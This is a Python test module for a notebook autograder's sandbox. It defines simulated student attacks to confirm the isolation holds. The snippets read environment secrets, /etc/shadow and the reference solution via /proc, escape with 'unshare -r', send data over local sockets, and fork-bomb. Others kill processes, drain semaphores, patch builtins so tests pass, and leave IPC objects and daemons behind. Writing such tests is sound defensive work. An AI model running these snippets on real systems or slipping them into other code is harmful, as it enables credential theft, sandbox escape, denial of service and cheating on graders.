"""Attacks on the isolation of the student's process (soft_select), by category, each with the
points it must earn. Every attacker sits on WRONG answers unless its attack, had it worked,
would give it the right ones: then 0 points proves it did not work. Honest controls (names
starting with zz_, so they are graded after the attackers, by the same pool processes) must keep
full marks.

Categories (the grader hardening issue): 2 the student's process sees nothing of the grader,
3 nothing of the student's outlives their turn, 4 tests trust only what the instructor wrote,
5 one student never stops a batch. turn_attacks(): students graded one after another in one
sandbox (issue 48, category 5: nothing of one student reaches the next).
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass
from pathlib import Path

from .attacks import FULL, WRONG, Attack

ANSWERS = sorted(WRONG)  # the names soft_select's solution cells define

# If any read below finds the reference code, the attacker defines the right answers from it:
# a full score would prove the leak.
STEAL = '''
def _use(text):
    import json as _json
    if text.lstrip().startswith("{"):  # a notebook: its code cells
        try:
            text = "\\n".join(c["source"] if isinstance(c["source"], str) else "".join(c["source"])
                              for c in _json.loads(text)["cells"] if c["cell_type"] == "code")
        except Exception:
            return
    if "def soft_select" not in text and "def hard_select" not in text:
        return
    import ast as _ast, math as _math, torch as _torch
    found = {"torch": _torch, "math": _math, "F": _torch.nn.functional}
    try:
        tree = _ast.parse(text)
    except SyntaxError:
        return
    for node in tree.body:  # statement by statement: a failing import costs nothing else
        try:
            exec(compile(_ast.Module([node], []), "<stolen>", "exec"), found)
        except Exception:
            pass
    for name in ("hard_select", "softmax", "soft_select", "attention_pooling"):
        if callable(found.get(name)):
            globals()[name] = found[name]
            print("STOLEN", name)
'''


@dataclass
class Plant:
    """What the test plants outside the course before grading, for attackers to go after."""

    secret: str  # a value put in the grader's environment (a database password, a hub token)
    secret_file: Path  # a file outside the course the student must not read
    reference_copy: Path  # the reference code, readable by the grader, outside the course
    udp_port: int  # a UDP listener on the grader's loopback
    tcp_port: int  # a TCP listener on the grader's loopback
    unix_socket: Path  # a Unix socket listener
    abstract_socket: str  # an abstract Unix socket name (no file)
    pwned: Path  # a file an attacker tries to create outside its sandbox


def isolation_attacks(repo: Path, course: Path, p: Plant) -> list[Attack]:
    repo, course = str(repo), str(course)
    return [
        # ----- 2. the student's process sees nothing of the grader --------------------------
        Attack("c2_environment", "prints its environment and every process's environ and "
               "cmdline (the grader's database password, a hub token)", code='''
import os
print(dict(os.environ))
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline"):
        try:
            print(pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:4000])
        except OSError as e:
            print("blocked:", e)''', flags={"suspicious"}),
        Attack("c2_read_files", "reads the reference, the source notebook, the gradebook, "
               "/etc/shadow and a planted file, by path and through /proc/*/root and cwd",
               code=STEAL + f'''
import glob, os
paths = [{repo!r} + "/solutions/select.py", {str(p.reference_copy)!r}, {str(p.secret_file)!r},
         {repo!r} + "/assignments/soft_select/soft_select.ipynb", {course!r} + "/gradebook.db",
         "/etc/shadow", "/root/.bash_history"]
for pid in os.listdir("/proc"):
    paths += [f"/proc/{{pid}}/root" + {repo!r} + "/solutions/select.py",
              f"/proc/{{pid}}/cwd/solutions/select.py", f"/proc/{{pid}}/root/etc/shadow"]
for path in paths:
    try:
        text = open(path, errors="ignore").read()
        print("read", path, text[:200])
        _use(text)
    except OSError as e:
        print("blocked:", path, e)''', flags={"suspicious"}),
        Attack("c2_answer_key", "imports the demo's answer key and the reference from the "
               "installed packages (grader.demo, solutions)", code=STEAL + '''
import importlib, inspect
for name in ("solutions.select", "grader.demo.sample_class", "solutions"):
    try:
        module = importlib.import_module(name)
        print("imported", name)
        _use(inspect.getsource(module))
    except Exception as e:
        print("blocked:", name, type(e).__name__)''', flags={"suspicious"}),
        Attack("c2_user_namespace", "becomes root in a user namespace of its own (`unshare "
               "-r`), unmounts what hides the reference and reads it", code=STEAL + f'''
import subprocess
script = ("id -u; umount -l {repo}/solutions {repo}/grader/demo 2>&1; "
          "cat {repo}/solutions/select.py")
run = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script],
                     capture_output=True, text=True)
print("USERNS", "made" if run.stdout.startswith("0") else "refused", run.stderr[-300:])
_use(run.stdout)''', flags={"suspicious"}),
        Attack("c2_network", "sends UDP, connects over TCP, to a Unix socket, an abstract "
               "socket and PostgreSQL's socket", code=f'''
import socket
for family, kind, address in [
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {p.udp_port})),
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {p.tcp_port})),
        (socket.AF_UNIX, socket.SOCK_STREAM, {str(p.unix_socket)!r}),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + {p.abstract_socket!r}),
        (socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/postgresql/.s.PGSQL.5432")]:
    s = socket.socket(family, kind)
    s.settimeout(2)
    try:
        if kind == socket.SOCK_DGRAM:
            s.sendto(b"LEAK", address)
        else:
            s.connect(address)
            s.sendall(b"LEAK")
        print("sent to", address)
    except OSError as e:
        print("blocked:", address, e)''', flags={"suspicious"}),
        # ----- 3. nothing of the student's outlives the student's turn -----------------------
        Attack("c3_daemon", "a double-forked, setsid daemon with a cleared environment that "
               "keeps writing files", code=f'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ.clear()
        while True:
            for path in ("/tmp/daemon-alive", {str(p.pwned)!r}):
                try:
                    open(path, "w").write(str(time.time()))
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
time.sleep(0.5)''', flags={"suspicious"}),
        Attack("c3_fork_bomb", "forks without end (children fork too)", code='''
import os, time
born = 0
for _ in range(100000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        born += 1
    except OSError:
        break
print("children:", born)''', flags={"suspicious"}),
        Attack("c3_fill_storage", "fills /dev/shm, /tmp and its folder, leaves files for the "
               "next student", code='''
import os
for path, size in (("/dev/shm/left-behind", 200 * 2**20), ("/tmp/left-behind", 200 * 2**20),
                   ("left-behind.bin", 600 * 2**20)):
    try:
        with open(path, "wb") as f:
            for _ in range(size // 2**20):
                f.write(b"x" * 2**20)
    except OSError as e:
        print("stopped:", path, e)''', flags={"suspicious"}),
        # ----- 4. tests trust only what the instructor wrote ----------------------------------
        Attack("c4_shadow_test_names", "defines the names tests use that are not answers "
               "(checks, torch, math, common test variables) as objects that agree with "
               "everything", code='''
class Yes:
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self, self])
    def __getitem__(self, key): return self
yes = Yes()
expect_close = expect_shape = expect_rows_sum_to_one = lambda *a, **k: None
torch = math = yes
for name in ("reference", "expected", "ref", "check", "compare_outputs", "expect_tensor",
             "CheckFailure", "x", "q", "k", "v", "keys", "values", "query", "out", "weights"):
    globals()[name] = yes''', flags={"redefined"}),
        Attack("c4_log_requests", "wraps its own process's request handler to log what the "
               "grader asks for, and prints the log last (hidden-test identifiers?)",
               code='''
import gc, json
_log = []
for _obj in gc.get_objects():
    if type(_obj).__name__ == "Worker" and hasattr(_obj, "op_get"):
        for _op in ("op_get", "op_get_many", "op_getattr", "op_call"):
            _orig = getattr(_obj, _op)
            def _wrapped(msg, _orig=_orig, _op=_op):
                for _name in msg.get("names") or [msg.get("name")]:
                    _log.append([_op, _name])
                return _orig(msg)
            setattr(_obj, _op, _wrapped)''', tamper=lambda nb: nb.cells.append(
            _code_cell('print("REQUESTS", json.dumps(_log))')), flags={"suspicious"}),
        Attack("c4_patch_test_side", "replaces torch functions and builtins in its own "
               "process, hoping the tests' references are computed there", code='''
import builtins, torch
torch.allclose = lambda *a, **k: True
torch.softmax = lambda x, dim=-1, **k: torch.zeros_like(x)
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0''', flags={"suspicious"}),
        # ----- 5. one student never stops a batch --------------------------------------------
        Attack("c5_semaphores", "looks for the process pool's semaphores in /dev/shm and "
               "/proc/*/maps, drains and deletes them", code='''
import glob, os, re
names = set(os.path.basename(p) for p in glob.glob("/dev/shm/*"))
for maps in glob.glob("/proc/*/maps"):
    try:
        names |= set(re.findall(r"/dev/shm/(\\S+)", open(maps).read()))
    except OSError:
        pass
print("found:", sorted(names))
try:
    import _multiprocessing
    for name in names:
        if name.startswith("sem."):
            try:
                lock = _multiprocessing.SemLock._rebuild(0, 1, 1, "/" + name[4:])
                while lock.acquire(False):
                    pass
            except Exception as e:
                print("blocked:", e)
except ImportError:
    pass
for path in glob.glob("/dev/shm/*"):
    try:
        os.unlink(path)
    except OSError as e:
        print("blocked:", e)''', flags={"suspicious"}),
        Attack("c5_kill_everything", "signals every process it can: kill(-1), its parent, its "
               "process group, pid 1", code='''
import os, signal
for target in (os.getppid(), 1, 2):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as e:
        print("blocked:", target, e)
try:
    os.kill(-1, signal.SIGSTOP)
except OSError as e:
    print("blocked: -1", e)''', flags={"suspicious"}),
        Attack("c5_hang_blocked_signals", "blocks every signal and waits forever in C",
               code='''
import signal, threading
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
threading.Event().wait()''', flags={"timeout"}),
        # ----- 6. what ships: nothing of the answers inside the student's reach -------------
        Attack("c6_installed_files", "lists the installed course package's files (its RECORD) "
               "and reads every one under solutions/ or grader/demo/", code=STEAL + '''
import importlib.metadata, os, sys
try:
    dist = importlib.metadata.distribution("attention-course")
    for f in dist.files or []:
        if "solutions" in str(f) or "demo" in str(f):
            try:
                _use(open(dist.locate_file(f), errors="ignore").read())
            except OSError as e:
                print("blocked:", f, e)
except Exception as e:
    print("blocked:", type(e).__name__, e)''', flags={"suspicious"}),
        Attack("c6_search_packages", "searches every folder on sys.path for the reference and "
               "the source notebooks", code=STEAL + '''
import glob, os, sys
for root in {os.path.dirname(p) for p in sys.path if p} | set(p for p in sys.path if p):
    for pattern in ("**/select.py", "**/sample_class.py", "**/soft_select*.ipynb"):
        for path in glob.glob(os.path.join(root, pattern), recursive=True)[:50]:
            try:
                _use(open(path, errors="ignore").read())
            except OSError as e:
                print("blocked:", path, e)''', flags={"suspicious"}),
        # ----- honest controls, graded after the attackers -----------------------------------
        Attack("zz_control", "the source solution", answers="correct", points=FULL),
        Attack("zz_control_clean_slate", "the source solution, and it lists what it can see "
               "of earlier students", answers="correct", points=FULL, code='''
import os
print("SEEN", sorted(os.listdir("/dev/shm")), sorted(os.listdir("/tmp")),
      sorted(os.listdir(".")))'''),
        Attack("zz_control_threads", "the source solution, using a thread and a child "
               "process of its own", answers="correct", points=FULL, code='''
import subprocess, threading
threading.Thread(target=lambda: None).start()
print(subprocess.run(["echo", "child ok"], capture_output=True, text=True).stdout)'''),
    ]


# ----- one sandbox, one student after another (graded with --workers 1) ----------------------

# What a student can leave in the sandbox for the next one: IPC objects of every kind, keys in
# every keyring, a file in a folder locked against the sweep, and a daemon that holds a lock on
# a file every student can open and listens on an abstract socket. "SANDBOX": when the
# sandbox's first process started (the same for every student graded in that sandbox).
LEAVE = '''
import ctypes, fcntl, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
print("SANDBOX", open("/proc/1/stat").read().split()[21])
MADE = {"shm": libc.shmget(0x5EC1, 4096, 0o1666), "msg": libc.msgget(0x5EC2, 0o1666),
        "sem": libc.semget(0x5EC3, 1, 0o1666)}
if MADE["shm"] >= 0:
    libc.shmat.restype = ctypes.c_void_p
    _at = libc.shmat(MADE["shm"], None, 0)
    ctypes.memmove(_at, b"left-behind", 11)
    libc.shmdt(ctypes.c_void_p(_at))
_message = ctypes.create_string_buffer(struct.pack("l", 1) + b"left-behind")
MADE["msgsnd"] = libc.msgsnd(MADE["msg"], _message, 11, 0)
libc.mq_open(b"/left-behind-mq", os.O_CREAT | os.O_RDWR, 0o666, None)  # the name stays
open("/dev/mqueue/left-behind-file", "w").close()
MADE["mqueue"] = sorted(os.listdir("/dev/mqueue"))
MADE["keys"] = [libc.syscall(248, b"user", b"left-behind", b"x", 1, ctypes.c_long(ring))
                for ring in (-1, -2, -3, -4, -5)]  # add_key: thread ... user-session keyring
_persistent = libc.syscall(250, 22, -1, ctypes.c_long(-3))  # KEYCTL_GET_PERSISTENT
MADE["keys"].append(libc.syscall(248, b"user", b"left-behind", b"x", 1,
                                 ctypes.c_long(_persistent)))
os.makedirs("/tmp/left-behind-locked/inner")
open("/tmp/left-behind-locked/inner/file", "w").write("left-behind")
os.chmod("/tmp/left-behind-locked/inner", 0)
os.chmod("/tmp/left-behind-locked", 0)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _lock = open(os.__file__, "rb")
        fcntl.flock(_lock, fcntl.LOCK_EX)
        _server = socket.socket(socket.AF_UNIX)
        _server.bind("\\0left-behind-socket")
        _server.listen()
        time.sleep(600)
    os._exit(0)
time.sleep(0.5)
os.environ["LEFT_BEHIND"] = "1"
sys.modules["left_behind"] = sys
os.chdir("/tmp")
print("MADE", MADE)
'''

# Everything LEAVE leaves, looked for; FOUND lists what is there, each with its kind first.
FIND = '''
import ctypes, errno, fcntl, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
print("SANDBOX", open("/proc/1/stat").read().split()[21])
FOUND = []
for _kind in ("shm", "msg", "sem"):
    FOUND += [f"{_kind}: {line.split()[:2]}"
              for line in open(f"/proc/sysvipc/{_kind}").read().splitlines()[1:]]
for _kind, _id in (("shm", libc.shmget(0x5EC1, 0, 0)), ("msg", libc.msgget(0x5EC2, 0)),
                   ("sem", libc.semget(0x5EC3, 0, 0))):
    if _id >= 0:
        FOUND.append(f"{_kind}: by its key, id {_id}")
FOUND += [f"mqueue: {name}" for name in os.listdir("/dev/mqueue")]
FOUND += [f"key: {line.strip()}" for line in open("/proc/keys") if "left-behind" in line]
for _ring in (-3, -4, -5):  # KEYCTL_SEARCH
    if libc.syscall(250, 10, ctypes.c_long(_ring), b"user", b"left-behind", 0) >= 0:
        FOUND.append(f"key: found in keyring {_ring}")
for _top in ("/tmp", "/dev/shm", "/scratch", "."):
    FOUND += [f"file: {_top}/{name}" for name in os.listdir(_top) if "left-behind" in name]
_client = socket.socket(socket.AF_UNIX)
try:
    _client.connect("\\0left-behind-socket")
    FOUND.append("socket: the abstract socket answers")
except OSError:
    pass
try:
    fcntl.flock(open(os.__file__, "rb"), fcntl.LOCK_EX | fcntl.LOCK_NB)
except BlockingIOError:
    FOUND.append("lock: a lock on a shared file is held")
_mine, _pid = {os.getpid()}, os.getpid()
while _pid > 0:  # this process and its ancestors (the sandbox's server, bwrap)
    _pid = int(open(f"/proc/{_pid}/stat").read().rsplit(")", 1)[1].split()[1])
    _mine.add(_pid)
FOUND += [f"process: {p}" for p in os.listdir("/proc") if p.isdigit() and int(p) not in _mine]
if "LEFT_BEHIND" in os.environ or "left_behind" in sys.modules or os.getcwd() != "/scratch":
    FOUND.append("python: the last student's environment, modules or folder")
print("FOUND", FOUND)
'''

# The environment's configuration a student may look for: Jupyter's and nbgrader's config and
# data folders (as jupyter_core finds them), and etc/ and pip.conf under every prefix.
READ_CONFIG = '''
import os, sys
_roots = [os.path.join(prefix, name) for prefix in
          {sys.prefix, sys.base_prefix, sys.exec_prefix, "/usr", "/usr/local"}
          for name in ("etc", "share/jupyter", "share/jupyterhub", "pip.conf", "conda-meta")]
try:
    from jupyter_core import paths
    _roots += paths.jupyter_config_path() + paths.jupyter_path()
except Exception as e:
    print("no jupyter_core:", e)
CONFIG = []
for _root in sorted(set(_roots)):
    _files = [_root] if os.path.isfile(_root) else [
        os.path.join(folder, name) for folder, _, names in os.walk(_root) for name in names]
    for _path in _files:
        try:
            _text = open(_path, errors="replace").read()
        except OSError:
            continue
        if _text:
            CONFIG.append(_path)
            print("read", _path, _text[:2000])
print("CONFIG", CONFIG)
'''


def answers_if(flag: str):
    """The right answers only where `flag`, a name the attack's cell sets, is true: full marks
    would prove the attack found what it looked for, 0 points that it found nothing."""
    def tamper(nb):
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") in WRONG:
                wrong = WRONG[cell.metadata["nbgrader"]["grade_id"]].strip()
                cell.source = (f"if {flag}:\n{textwrap.indent(cell.source, '    ')}\n"
                               f"else:\n{textwrap.indent(wrong, '    ')}")
    return tamper


def turn_attacks() -> list[Attack]:
    """Graded one after another by one grading process, in one sandbox (--workers 1), in an
    order the test does not choose: each attacker first looks for what earlier students left
    (full marks if it finds anything), then leaves everything it can for the later ones, so
    whichever comes second finds the first one's leftovers, unless the sweep removed them."""
    return [
        Attack(f"t{n}_look_then_leave", "looks for everything an earlier student left (full "
               "marks if it finds anything), then leaves System V shared memory, a message "
               "queue and a semaphore, POSIX message queues, keys in every keyring, a locked "
               "folder in /tmp and a daemon holding a file lock and an abstract socket",
               answers="correct", code=FIND + LEAVE, tamper=answers_if("FOUND"),
               flags={"suspicious"}) for n in (1, 2)
    ] + [
        Attack("t3_read_config", "reads the environment's configuration (etc/jupyter under "
               "the interpreter's prefix, where a site-wide nbgrader config with a database URL "
               "may be; full marks if it reads any)", answers="correct", code=READ_CONFIG,
               tamper=answers_if("CONFIG")),
        Attack("zz_control", "the source solution", answers="correct", points=FULL),
        Attack("zz_control_finds_its_own", "the source solution; leaves everything the "
               "attackers leave and finds it in its own turn (what a later student would find "
               "without the sweep)", answers="correct", code=LEAVE + FIND,
               tamper=answers_if("FOUND"), points=FULL),
    ]


def _code_cell(source: str):
    from nbformat.v4 import new_code_cell

    return new_code_cell(source)
